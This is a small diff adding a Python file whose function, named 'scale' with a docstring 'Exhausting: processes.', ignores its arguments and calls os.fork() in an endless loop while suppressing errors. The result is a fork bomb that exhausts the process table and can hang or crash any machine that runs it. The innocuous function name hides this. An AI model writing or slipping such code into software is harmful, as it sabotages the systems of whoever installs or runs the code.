@@ -1,0 +1,9 @@
+"""Exhausting: processes."""
+import os
+
+def scale(x, n):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
